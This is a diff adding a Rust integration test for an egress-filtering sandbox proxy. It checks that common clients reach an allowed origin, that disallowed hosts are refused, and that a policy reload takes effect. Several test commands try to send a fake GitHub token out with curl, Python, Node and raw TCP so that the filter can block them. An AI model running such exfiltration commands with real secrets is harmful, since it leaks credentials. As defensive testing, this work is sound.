@@ -1,0 +1,250 @@
+//! Real clients in a real bottle, as their users start them: each finds the proxy and the bottle's CA by itself, gets what
+//! is allowed, and is told what is not.
+
+use std::path::Path;
+use std::process::{Command, Stdio};
+
+use crate::support::images::{CLIENTS, Clients};
+use crate::support::origin::{Origin, certificates, docker};
+use crate::support::process::{World, finish, wait_for};
+use nix::sys::signal::{Signal, kill};
+use nix::unistd::Pid;
+
+/// The destination's name.
+const HOST: &str = "origin.example.com";
+
+/// What the destination serves: files by HTTP/1.1 and HTTP/2, repositories, packages, crates, and `WebSockets` that say
+/// everything back.
+const ORIGIN: &str = r#"set -e
+cd /origin
+mkdir -p www/simple/demo www/api/v1 www/index
+echo hello from the origin > www/hello
+git init -q work && cd work && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m 'the first' && cd ..
+git clone -q --bare work www/repo.git && git -C www/repo.git update-server-info
+python3 - <<'PYTHON'
+import zipfile
+with zipfile.ZipFile("www/simple/demo/demo-1.0-py3-none-any.whl", "w") as wheel:
+    wheel.writestr("demo.py", "")
+    wheel.writestr("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
+    wheel.writestr("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: a\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
+    wheel.writestr("demo-1.0.dist-info/RECORD", "")
+PYTHON
+echo '<a href="demo-1.0-py3-none-any.whl">demo-1.0-py3-none-any.whl</a>' > www/simple/demo/index.html
+echo '{"dl":"https://origin.example.com/dl","api":"https://origin.example.com"}' > www/index/config.json
+echo '{"crates":[{"name":"demo","max_version":"1.2.3","description":"a crate"}],"meta":{"total":1}}' > www/api/v1/crates
+cat > nginx.conf <<'NGINX'
+error_log /dev/null;
+pid /origin/nginx.pid;
+user root;
+events {}
+http {
+  access_log off;
+  map $http_upgrade $connection_upgrade { default upgrade; '' ''; }
+  server {
+    listen 443 ssl http2;
+    ssl_certificate /origin/leaf.pem;
+    ssl_certificate_key /origin/leaf.key;
+    root /origin/www;
+    index index.html;
+    client_max_body_size 0;
+    location /chat { proxy_pass http://127.0.0.1:9000; proxy_http_version 1.1; proxy_set_header Upgrade $http_upgrade; proxy_set_header Connection $connection_upgrade; }
+    location /post { proxy_pass http://127.0.0.1:9001; }
+  }
+  server { listen 127.0.0.1:9001; listen 9002; client_max_body_size 0; location / { return 200 "taken\n"; } }
+}
+NGINX
+python3 - <<'PYTHON' &
+import asyncio, websockets
+async def say(socket, *_):
+    async for message in socket:
+        await socket.send("you said " + message)
+async def main():
+    async with websockets.serve(say, "127.0.0.1", 9000):
+        await asyncio.Future()
+asyncio.run(main())
+PYTHON
+exec nginx -c /origin/nginx.conf -g 'daemon off;'
+"#;
+
+/// Name, what is run in the bottle by its shell, and what it must write. `$TOKEN` is what must not leave.
+const ATTEMPTS: &[(&str, &str, &str)] = &[
+    ("curl, HTTP/1.1", "curl -sS --http1.1 $URL/hello", "hello from the origin"),
+    ("curl, HTTP/2", "curl -sS --http2 -w '%{http_version}' $URL/hello", "hello from the origin\n2"),
+    ("curl, a token", "curl -sS -d $TOKEN $URL/post", "secret_found"),
+    ("curl, a token in a form", "curl -sS -F file=$TOKEN $URL/post", "secret_found"),
+    ("curl, 100 MB", "head -c 100000000 /dev/zero | curl -sS -T - $URL/post", "taken"),
+    (
+        "curl, a token behind 20 MB",
+        "(head -c 20000000 /dev/zero; echo $TOKEN) | curl -sS -T - $URL/post",
+        "secret_found",
+    ),
+    (
+        "curl, a token behind 20 MB by HTTP/1.1",
+        "(head -c 20000000 /dev/zero; echo $TOKEN) | curl -sS --http1.1 -T - $URL/post",
+        "secret_found",
+    ),
+    ("curl, a forbidden host", "curl -sS https://forbidden.example.com/ 2>&1", "403"),
+    (
+        "requests",
+        "python3 -c 'import requests, os; print(requests.get(os.environ[\"URL\"] + \"/hello\").text)'",
+        "hello from the origin",
+    ),
+    (
+        "requests, a token",
+        "python3 -c 'import requests, os; print(requests.post(os.environ[\"URL\"] + \"/post\", json={\"a\": os.environ[\"TOKEN\"]}).text)'",
+        "secret_found",
+    ),
+    (
+        "httpx, HTTP/2",
+        "python3 -c 'import httpx, os; r = httpx.Client(http2=True).get(os.environ[\"URL\"] + \"/hello\"); print(r.http_version, r.text)'",
+        "HTTP/2 hello from the origin",
+    ),
+    (
+        "httpx, a token",
+        "python3 -c 'import httpx, os; print(httpx.post(os.environ[\"URL\"] + \"/post\", content=os.environ[\"TOKEN\"]).text)'",
+        "secret_found",
+    ),
+    ("websockets", "python3 /tmp/websocket.py hello", "you said hello"),
+    ("websockets, a token", "python3 /tmp/websocket.py $TOKEN", "1008"),
+    ("fetch of Node", "node /tmp/fetch.js", "200 hello from the origin"),
+    ("fetch of Node, a token", "node /tmp/fetch.js $TOKEN", "secret_found"),
+    ("plain TCP, by its own name", "curl -sS --noproxy '*' http://origin.example.com:9002/", "taken"),
+    ("plain TCP, a token", "curl -sS --noproxy '*' -d $TOKEN http://origin.example.com:9002/ 2>&1", "mpty reply"),
+    ("plain TCP, another port", "curl -sS --noproxy '*' http://origin.example.com:9001/ 2>&1", "t connect to server"),
+    ("git clone", "cd /tmp && git clone -q $URL/repo.git cloned && git -C cloned log --format=%s", "the first"),
+    (
+        "git push",
+        "cd /tmp/cloned && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git push 2>&1 || true",
+        "400",
+    ),
+    (
+        "pip",
+        "pip download -q --no-deps -d /tmp/wheels --index-url $URL/simple demo 2>&1 && ls /tmp/wheels",
+        "demo-1.0-py3-none-any.whl",
+    ),
+    (
+        "pip, a forbidden index",
+        "pip download --retries 0 --no-deps --index-url https://forbidden.example.com/simple demo 2>&1 || true",
+        "No matching distribution",
+    ),
+    (
+        "cargo",
+        "CARGO_REGISTRIES_MINE_INDEX=sparse+$URL/index/ /tmp/cargo search --registry mine demo 2>&1",
+        "demo = \"1.2.3\"",
+    ),
+];
+
+const WEBSOCKET: &str = r#"
+import asyncio, os, socket, ssl, sys, urllib.parse, websockets
+async def main():
+    # This version knows no proxies.
+    proxy = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
+    connection = socket.create_connection((proxy.hostname, proxy.port))
+    connection.sendall(b"CONNECT origin.example.com:443 HTTP/1.1\r\nHost: origin.example.com:443\r\n\r\n")
+    assert b" 200 " in connection.recv(4096)
+    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+    async with websockets.connect("wss://origin.example.com/chat", sock=connection, ssl=context, server_hostname="origin.example.com") as chat:
+        try:
+            await chat.send(sys.argv[1])
+            print(await chat.recv())
+        except websockets.ConnectionClosed as closed:
+            print(closed.code, closed.reason)
+asyncio.run(main())
+"#;
+
+const FETCH: &str = r#"
+const { fetch, ProxyAgent } = require("undici");
+const body = process.argv[2];
+const options = { dispatcher: new ProxyAgent(process.env.HTTPS_PROXY), ...(body ? { method: "POST", body } : {}) };
+fetch(process.env.URL + (body ? "/post" : "/hello"), options).then(async (r) => console.log(r.status, await r.text()));
+"#;
+
+#[test]
+fn real_clients_find_their_way_and_promise_09_holds_for_each() {
+    let world = World::new();
+    let _image = Clients::import();
+    let folder = tempfile::tempdir().unwrap();
+    let origin = folder.path().join("origin");
+    std::fs::create_dir(&origin).unwrap();
+    certificates(&origin, &[HOST]);
+    std::fs::write(origin.join("start"), ORIGIN).unwrap();
+    let root = origin.join("root.pem").display().to_string();
+    let child = world
+        .command(&["run", "shell", "--image", CLIENTS, "--allow", HOST, "--upstream-ca", &root])
+        .args([
+            "--tcp",
+            "origin.example.com:9002",
+            "--allow-ip",
+            "10.213.0.0/16",
+            "--allow-ip",
+            "172.29.0.0/16",
+            "--",
+            "sleep",
+            "1000",
+        ])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let agent = wait_for("the agent", || world.agent_running("sleep 1000"));
+    let running = Origin::start(&agent, &[HOST], CLIENTS, &origin, &["sh", "/origin/start"]);
+    give(&agent, folder.path());
+    // Put together here, so that no scanner of repositories takes it for a real one.
+    let token = ["ghp_", "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx"].concat();
+    let exec = |command: &str| {
+        let variables = [format!("TOKEN={token}"), format!("URL=https://{HOST}")];
+        let exec = ["exec", "-e", &variables[0], "-e", &variables[1], &agent, "timeout", "50", "sh", "-c", command];
+        let output = Command::new("docker").args(exec).output().unwrap();
+        String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned()
+    };
+    wait_for("the origin", || exec("curl -sS $URL/hello").contains("hello").then_some(()));
+    for (name, command, expected) in ATTEMPTS {
+        let said = exec(command);
+        assert!(said.contains(expected), "{name}: {said}");
+    }
+    an_operator_looks_at_it_and_changes_it(&world, &agent, folder.path(), &exec);
+    drop(running);
+    kill(Pid::from_raw(child.id().cast_signed()), Signal::SIGINT).unwrap();
+    let done = finish(child);
+    assert_eq!(done.code(), 126, "{}", done.stderr);
+    world.assert_clean();
+}
+
+/// What egress goes by and has done, while it runs; and another policy, on the way to its destination.
+fn an_operator_looks_at_it_and_changes_it(world: &World, agent: &str, folder: &Path, exec: &dyn Fn(&str) -> String) {
+    let stats = world.run(&["stats", agent, "--format", "prometheus"]).stdout;
+    assert!(stats.contains("decision=\"refuse\",code=\"secret_found\"} "), "{stats}");
+    let shown = world.run(&["policy", "show", agent]).json();
+    assert_eq!((&shown["generation"], &shown["egress"]["allow"]), (&1.into(), &serde_json::json!([HOST])));
+    let file = folder.join("egress.yaml");
+    let reload = |content: &str| {
+        std::fs::write(&file, content).unwrap();
+        world.run(&["policy", "reload", agent, "--egress", &file.display().to_string()])
+    };
+    let bad = reload("allow: ['*.com']");
+    assert_eq!(bad.code(), 120, "{}", bad.stderr);
+    let rest = "roots: [origin/root.pem]\nip_allow: [10.213.0.0/16, 172.29.0.0/16]\ntcp: ['origin.example.com:9002']\n";
+    assert!(exec("curl -sS $URL/hello").contains("hello from"));
+    let done = reload(&format!("allow: [{{host: {HOST}, paths: [/post]}}]\n{rest}"));
+    assert_eq!(done.json()["generation"], 2, "{}", done.stderr);
+    assert!(exec("curl -sS $URL/hello").contains("path_not_allowed"));
+    assert!(exec("curl -sS -d x $URL/post").contains("taken"));
+    let unknown = world.run(&["policy", "show", "nobody-00000"]);
+    assert!(unknown.code() == 120 && unknown.stderr.contains("no running bottle"), "{}", unknown.stderr);
+}
+
+/// Puts scripts and cargo, which is not a package here, into the agent's container.
+fn give(agent: &str, folder: &Path) {
+    let cargo = Command::new("rustup").args(["which", "cargo"]).output().unwrap();
+    let cargo = String::from_utf8(cargo.stdout).unwrap();
+    let cargo = if cargo.trim().is_empty() { env!("CARGO").to_owned() } else { cargo };
+    std::fs::write(folder.join("websocket.py"), WEBSOCKET).unwrap();
+    std::fs::write(folder.join("fetch.js"), FETCH).unwrap();
+    for (from, to) in [
+        (folder.join("websocket.py").display().to_string(), "websocket.py"),
+        (folder.join("fetch.js").display().to_string(), "fetch.js"),
+        (cargo.trim().to_owned(), "cargo"),
+    ] {
+        docker(&["cp", &from, &format!("{agent}:/tmp/{to}")]);
+    }
+}
